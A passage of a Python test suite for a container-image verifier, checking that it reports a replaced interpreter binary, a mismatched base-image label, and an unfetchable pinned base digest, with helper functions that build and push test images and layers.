    push_with_last_layer_grown(reference, interpreter, replaced, tmp_path / "interpreter")
    assert one_line(verify(engine, project, "--image", interpreter)) == (
        f"error: {interpreter}: /usr/bin/python3.11: changed from the base image's"
    )

    # A later commit pins another base than the one the image is built on; the image is
    # pushed again labelled with that commit (the label is whatever the pusher writes).
    other = push_other_base(base, tmp_path / "other")
    checkout, relabelled = pinning_commit(published, other, tmp_path / "other-pin")
    # Two checks see it: the base's layers, and the config's label naming the base.
    assert verify(engine, checkout, "--image", relabelled).stderr.strip().splitlines() == [
        f"error: {relabelled}: config Labels org.opencontainers.image.base.name: "
        f'expected "{other}", found "{base}"',
        f"error: {relabelled}: its base layers are not those of {other} (2), the base "
        f"base-images.lock pins (it says it is built on {base}): it is built on another base",
    ]
    gone = f"{base.partition('@')[0]}@sha256:{'0' * 64}"
    checkout, relabelled = pinning_commit(published, gone, tmp_path / "gone-pin")
    gone_result = verify(engine, checkout, "--image", relabelled)
    errors = gone_result.stderr.strip().splitlines()
    assert gone_result.returncode == 1 and "verified" not in gone_result.stdout
    # fetched once for both the config and the layers: one line (skopeo is asked
    # for the digest without the tag)
    asked = re.sub(r":[^/]*$", "", gone.partition("@")[0]) + f"@sha256:{'0' * 64}"
    assert errors == [
        f"error: {relabelled}: the base image {gone} cannot be fetched to check the config "
        f"and the layers against it: cannot pull {asked}: {asked} is not in the registry"
    ]


def pinning_commit(published: dict[str, str], pin: str, folder: Path) -> tuple[Path, str]:
    """A later commit of the project pinning `pin` as its base, and the published image pushed
    again with that commit in its revision label: (the checkout, the image's reference)."""
    checkout, commit = committed_copy(
        Path(published["project"]), folder,
        lambda copy: (copy / "base-images.lock").write_text(f"{pin}\n"),
    )  # fmt: skip
    relabelled = f"{published['repository']}:{folder.name}"

    def label(config: dict[str, Any]) -> None:
        config["Labels"]["org.opencontainers.image.revision"] = commit

    push_with_config(published["reference"], relabelled, label, folder / "image")
    return checkout, relabelled


def executable_layer(name: str, content: bytes) -> bytes:
    """A tar layer of one file with mode 755, as the interpreter it replaces."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.size, info.mode = len(content), 0o755
        archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def push_other_base(base: str, folder: Path) -> str:
    """Another base in the pinned base's repository (one more layer): its REFERENCE@DIGEST."""
    tagged, _, digest = base.partition("@")
    repository = tagged.rpartition(":")[0]
    layer = layer_of(("etc/other", b"1\n"))
    push_with_layer(f"{repository}@{digest}", f"{repository}:other", layer, folder)
    return f"{base.partition('@')[0]}@{registries.digest(f'{repository}:other')}"
